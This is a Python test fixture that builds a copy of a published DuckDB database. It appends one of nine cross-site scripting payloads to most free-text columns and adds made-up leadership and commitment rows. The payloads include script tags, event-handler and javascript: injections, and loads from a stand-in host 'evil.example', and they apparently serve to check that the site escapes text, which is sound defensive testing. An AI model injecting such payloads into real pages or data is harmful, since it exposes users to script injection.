"""What somebody would write to have a page run it: nine payloads, and a database that has them in all its words."""

from __future__ import annotations

from pathlib import Path

import duckdb

from etl.build import builder

# Nobody lives there: a request to it is a leak.
ELSEWHERE = "https://evil.example"
# As in operations: each would leave a mark in the window, ask elsewhere, or lead to where it does.
PAYLOADS = (
    '<img src=x onerror="window.ran=1">',
    "<script>window.ran=2</script>",
    "[click](javascript:window.ran=3)",
    '<a href="javascript:window.ran=4">click</a>',
    '<svg onload="window.ran=5"></svg>',
    '<iframe src="javascript:parent.ran=6"></iframe>',
    '" onmouseover="window.ran=7" tabindex="1',
    f"![i]({ELSEWHERE}/x.png)",
    f'\'></style></td></table><script src="{ELSEWHERE}/x.js"></script>',
)
# Columns of words that the program goes by, or that a check of the schema holds: an id, a unit, a day.
KEPT = {
    "build.data_version", "source.source_id", "source.released", "source.next_due", "metric.next_due",
    "proof.metric_id", "proof.proof", "suppression_check.metric_id", "standing.not_ranked",
    "load_ledger.source_id", "load_ledger.sha256",
    "reject.source_id", "reject.rule", "warning.source_id", "warning.rule", "area.area_id", "area.la_number",
    "area.gss_code", "area.region_id", "area_code.gss_code", "area_code.area_id", "area_name.area_id", "place.area_id",
    "succession.predecessor_id", "succession.successor_id", "neighbour.area_id", "neighbour.neighbour_id",
    "metric.metric_id", "metric.unit", "metric.source_id", "metric.period_kind", "metric.shortfall_moves",
    "observation.metric_id", "observation.area_id", "observation.symbol", "observation.return_id",
    "observation.source_id", "what_changed.source_id", "what_changed.kind", "what_changed.metric_id",
    "what_changed.area_id", "what_changed.before", "what_changed.after", "known_error.metric_id",
    "known_error.area_id", "standing.metric_id", "standing.area_id", "quarter_cut.metric_id", "change.metric_id",
    "change.area_id", "series_break.metric_id", "trend.metric_id", "trend.area_id", "trend.reason", "metric.theme",
    "inspection.inspection_id", "inspection.area_id", "inspection.type", "inspection.source_id",
    "judgement.inspection_id", "visit.visit_id", "visit.area_id", "visit.source_id", "boundary.area_id",
    "boundary.geojson", "map_shape.area_id", "map_shape.view", "map_shape.path", "leadership_post.area_id",
    "leadership_post.post", "recommendation.inspection_id", "recommendation.source_id", "theme.theme",
    "recommendation_theme.inspection_id", "recommendation_theme.theme", "leadership_post.coach_id",
    "commitment.metric_id",
}  # fmt: skip
COLUMNS = """
    SELECT table_name, column_name FROM duckdb_columns()
    WHERE database_name = 'published' AND data_type = 'VARCHAR' ORDER BY table_name, column_index
"""
REGISTER = """
    INSERT INTO leadership_post
    SELECT area_id, 'director of children''s services', DATE '2024-01-01' + line::INTEGER, line % 3 = 0,
        CASE WHEN line % 2 = 0 THEN 'executive' ELSE 'none' END::programme,
        CASE WHEN line % 2 = 0 THEN DATE '2026-01-01' END, NULL, CASE WHEN line % 4 = 0 THEN 'E09' END,
        'https://example.org/' || payload, DATE '2026-10-01', line
    FROM (
        SELECT area_id, row_number() OVER (ORDER BY area_id) AS line, $payloads[1 + line % 9] AS payload
        FROM area WHERE kind = 'local_authority' AND end_date IS NULL
    ) WHERE line < 60
"""
COMMITMENTS = """
    INSERT INTO commitment
    SELECT line, 'Made-up promise ' || payload, 'Made-up office ' || payload,
        CASE WHEN line < 9 THEN 'vacancy_rate' END, 10 + line, DATE '2028-03-31', 'https://example.org/' || payload
    FROM (SELECT unnest(range(1, 10)) AS line, $payloads[line] AS payload)
"""


def write(real: Path, path: Path) -> Path:
    """A copy of the real database with a payload after every text in it that the program does not go by.

    The register and the commitments, which may be empty, get rows of their own.
    """
    with duckdb.connect(str(path)) as connection:
        connection.execute(builder.schema(builder.DATA))
        connection.execute(f"ATTACH '{real}' AS published (READ_ONLY)")
        worded: dict[str, list[str]] = {}
        for table, column in connection.execute(COLUMNS).fetchall():
            worded.setdefault(table, [])
            if f"{table}.{column}" not in KEPT:
                worded[table].append(column)
        order = "SELECT table_name FROM duckdb_tables() WHERE database_name <> 'published' ORDER BY table_oid"
        tables = [name for (name,) in connection.execute(order).fetchall()]
        given = {"payloads": list(PAYLOADS)}
        for table in tables:
            changed = ", ".join(
                f'"{one}" || \' \' || $payloads[1 + (row_number() OVER () + {place}) % 9] AS "{one}"'
                for place, one in enumerate(worded.get(table, []))
            )
            connection.execute(
                f'INSERT INTO "{table}" SELECT *{f" REPLACE ({changed})" if changed else ""} FROM published."{table}"',
                given if changed else None,
            )
        connection.execute("DELETE FROM leadership_post; DELETE FROM commitment")
        connection.execute(
            REGISTER.replace("'E09'", "(SELECT min(area_id) FROM area WHERE kind = 'local_authority')"), given
        )
        connection.execute(COMMITMENTS, given)
        connection.execute("DETACH published")
    return path
